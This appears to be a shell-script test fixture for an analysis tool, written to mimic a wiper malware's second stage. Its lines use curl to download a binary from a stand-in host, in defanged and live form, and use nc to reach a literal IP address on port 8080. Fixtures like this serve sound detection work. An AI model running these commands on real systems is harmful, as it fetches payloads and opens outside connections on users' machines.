#!/bin/sh
# Fixture for the sample golden test: a wiper's second stage with its C2.
# Never run: culprit only reads it.
curl -s hxxp://update.example-cdn[.]com/x.bin -o /tmp/x
curl -s http://update.example-cdn.com/x.bin -o /tmp/x
nc 203.131.222.102 8080
echo version 1.2.3.4 of runtime.work
